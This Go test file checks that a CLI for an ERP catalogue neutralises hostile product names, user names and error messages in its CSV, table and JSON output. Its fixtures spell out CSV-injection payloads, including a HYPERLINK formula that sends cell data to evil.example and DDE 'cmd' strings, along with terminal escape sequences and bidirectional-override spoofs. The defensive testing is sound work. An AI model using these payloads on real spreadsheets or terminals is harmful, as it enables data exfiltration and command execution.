package main

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/cloudspot-toolkit/cloudspot/toolkit/internal/erptest"
)

// hostile are product names an attacker with write access to a company's
// catalogue could choose, and how each must come out of -o csv: formulas
// neutralised with a leading apostrophe (OWASP's CSV-injection guidance),
// terminal controls and bidirectional overrides shown as escapes.
var hostile = []struct{ naam, csv string }{
	{`=HYPERLINK("http://evil.example/?d="&A1,"Klik")`, `'=HYPERLINK("http://evil.example/?d="&A1,"Klik")`},
	{`+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`},
	{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
	{`@SUM(1+9)*cmd|' /C calc'!A0`, `'@SUM(1+9)*cmd|' /C calc'!A0`},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"Rood \x1b[31mALARM\x1b[0m", `Rood \x1b[31mALARM\x1b[0m`},
	{"Titel\x1b]0;pwned\x07", `Titel\x1b]0;pwned\x07`},
	{"\x1b[2J\x1b[HScherm gewist", `\x1b[2J\x1b[HScherm gewist`},
	{"C1 \u009b31m rood", `C1 \u009b31m rood`},
	{"factuur\u202Efdp.exe", `factuur\u202efdp.exe`},
	{"isolaat \u2066x\u2069 en \u200f", `isolaat \u2066x\u2069 en \u200f`},
	{"Koffie = lekker", "Koffie = lekker"},
	{"Backspace\bweg", `Backspace\x08weg`},
}

// hostileERP serves the demo company with the hostile products added
// through the admin command, as an administrator would import them.
func hostileERP(t *testing.T) *sandbox {
	t.Helper()
	db := filepath.Join(t.TempDir(), "erp.db")
	srv := erptest.Start(t, erptest.Options{Demo: true, DB: db})
	var items []map[string]any
	for i, h := range hostile {
		items = append(items, map[string]any{
			"naam": h.naam, "SKU": "HOST-" + string(rune('A'+i)), "voorraad_bijhouden": "NIET", "op_voorraad": 0,
			"verkoopprijs_excl": "1.00", "verkoopprijs_incl": "1.21", "BTW": "21", "bestellingtype": "IDEAAL", "status": "ZICHTBAAR",
		})
	}
	file := filepath.Join(t.TempDir(), "hostile.json")
	b, err := json.Marshal(items)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, b, 0o600); err != nil {
		t.Fatal(err)
	}
	admin := erptest.Build(t, "./cmd/cloudspot-server")
	if out, errOut, code := erptest.Run(t, "", []string{"CLOUDSPOT_DB="}, admin, "admin", "--db", db, "import", "artikels", "--company", "demo", file); code != 0 {
		t.Fatalf("admin import: exit %d\n%s%s", code, out, errOut)
	}
	if out, errOut, code := erptest.Run(t, "long-enough-password\n", []string{"CLOUDSPOT_DB="}, admin, "admin", "--db", db, "user", "create", "evil",
		"--company", "demo", "--first-name", "\x1b]0;pwned\x07Eve", "--last-name", "\u202eliveD", "--email", "eve@example.com"); code != 0 {
		t.Fatalf("admin user create: exit %d\n%s%s", code, out, errOut)
	}
	return newSandbox(t, srv.URL)
}

// assertInert fails if out holds anything a terminal would act on: a C0 or
// C1 control other than newline, DEL, or a bidirectional control.
func assertInert(t *testing.T, what, out string) {
	t.Helper()
	for i, r := range out {
		if (unicode.IsControl(r) && r != '\n') || unicode.Is(unicode.Bidi_Control, r) {
			t.Errorf("%s: %U at byte %d reaches the terminal:\n%q", what, r, i, out)
			return
		}
	}
}

func TestHostileNames(t *testing.T) {
	t.Parallel()
	s := hostileERP(t)
	args := []string{"artikels", "list", "--search", "", "--fields", "SKU,naam,verkoopprijs_incl"}
	hostileOnly := func(skus []string) {
		t.Helper()
		if n := len(skus); n != len(hostile) {
			t.Fatalf("%d hostile products listed, want %d", n, len(hostile))
		}
	}

	t.Run("CSV", func(t *testing.T) {
		t.Parallel()
		r := s.ok("", companyEnv, append(args, "-o", "csv")...)
		rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
		if err != nil {
			t.Fatalf("-o csv does not parse: %v", err)
		}
		got := map[string][]string{}
		var skus []string
		for _, row := range rows[1:] {
			if strings.HasPrefix(row[0], "HOST-") {
				got[row[0]] = row
				skus = append(skus, row[0])
			}
		}
		hostileOnly(skus)
		for i, h := range hostile {
			row := got["HOST-"+string(rune('A'+i))]
			if row[1] != h.csv {
				t.Errorf("naam %q: CSV cell %q, want %q", h.naam, row[1], h.csv)
			}
			if row[2] != "1.21" {
				t.Errorf("verkoopprijs_incl %q, want 1.21", row[2])
			}
		}
		for i, r := range r.stdout {
			if unicode.IsControl(r) && !strings.ContainsRune("\t\r\n", r) || unicode.Is(unicode.Bidi_Control, r) {
				t.Fatalf("CSV holds %U at byte %d", r, i)
			}
		}
	})
	for _, format := range []string{"table", "json", "ndjson"} {
		t.Run(format, func(t *testing.T) {
			t.Parallel()
			r := s.ok("", companyEnv, append(args, "-o", format)...)
			if format == "table" {
				assertInert(t, "-o table", r.stdout)
				for _, h := range hostile[6:] {
					if want := strings.TrimPrefix(h.csv, "'"); !strings.Contains(r.stdout, want) {
						t.Errorf("-o table does not show %q as %q:\n%s", h.naam, want, r.stdout)
					}
				}
				return
			}
			// JSON and NDJSON stay exact: every name decodes to what was imported.
			var items []struct{ SKU, Naam string }
			if format == "json" {
				if err := json.Unmarshal([]byte(r.stdout), &items); err != nil {
					t.Fatal(err)
				}
			} else {
				for _, l := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
					var it struct{ SKU, Naam string }
					if err := json.Unmarshal([]byte(l), &it); err != nil {
						t.Fatal(err)
					}
					items = append(items, it)
				}
			}
			var names []string
			for _, it := range items {
				if strings.HasPrefix(it.SKU, "HOST-") {
					names = append(names, it.Naam)
				}
			}
			var want []string
			for _, h := range hostile {
				want = append(want, h.naam)
			}
			slices.Sort(names)
			slices.Sort(want)
			if !slices.Equal(names, want) {
				t.Errorf("-o %s changed names:\n got %q\nwant %q", format, names, want)
			}
			// Encoded, the controls are JSON escapes, not raw bytes.
			if strings.ContainsRune(r.stdout, 0x1b) {
				t.Errorf("-o %s holds a raw ESC", format)
			}
		})
	}
}

// TestHostileUserName: what login and auth status say about a user whose
// name holds controls reaches the terminal inert.
func TestHostileUserName(t *testing.T) {
	t.Parallel()
	s := hostileERP(t)
	r := s.ok("long-enough-password\n", nil, "login", "--app", "timeapp", "--username", "evil", "--password-stdin")
	assertInert(t, "login", r.stdout)
	if want := `as evil (\x1b]0;pwned\x07Eve \u202eliveD).`; !strings.Contains(r.stdout, want) {
		t.Errorf("login said %q, want it to contain %q", r.stdout, want)
	}
	r = s.ok("", nil, "auth", "status")
	assertInert(t, "auth status", r.stdout)
	r = s.ok("", nil, "whoami", "-o", "table")
	assertInert(t, "whoami", r.stdout)
}

// TestHostileErrorMessage: an ERP's error message reaches stderr inert.
func TestHostileErrorMessage(t *testing.T) {
	t.Parallel()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusInternalServerError)
		w.Write([]byte(`{"message": "\u001b[2J\u001b]0;pwned\u0007Storing \u202eetsil"}`))
	}))
	defer srv.Close()
	s := newSandbox(t, srv.URL+"/api/v1")
	r := s.run("", companyEnv, "artikels", "list")
	if r.code != exitFailed {
		t.Errorf("exit %d, want %d", r.code, exitFailed)
	}
	assertOneLine(t, r.stderr)
	assertInert(t, "stderr", r.stderr)
	if !strings.Contains(r.stderr, `\x1b[2J\x1b]0;pwned\x07Storing \u202eetsil`) {
		t.Errorf("stderr does not show the message's escapes: %q", r.stderr)
	}
	// -v shows the request and the answer, inert too.
	r = s.run("", companyEnv, "-v", "artikels", "list")
	assertInert(t, "stderr of -v", r.stderr)
}

func TestCSVCell(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		in       string
		isString bool
		want     string
	}{
		{"-1.21", false, "-1.21"}, // a negative number stays a number
		{"-1.21", true, "'-1.21"}, // text that starts like a formula does not
		{"", true, ""},
		{"=", true, "'="},
		{"a=1", true, "a=1"},
		{"regel 1\nregel 2", true, "regel 1\nregel 2"},
		{"\x1b=1", true, `\x1b=1`},
		{"bad \xff byte", true, `bad \xff byte`},
		{"ok \ufffd", true, "ok \ufffd"},
		{"Françoise", true, "Françoise"},
	} {
		if got := csvCell(tc.in, tc.isString); got != tc.want {
			t.Errorf("csvCell(%q, %v) = %q, want %q", tc.in, tc.isString, got, tc.want)
		}
	}
}
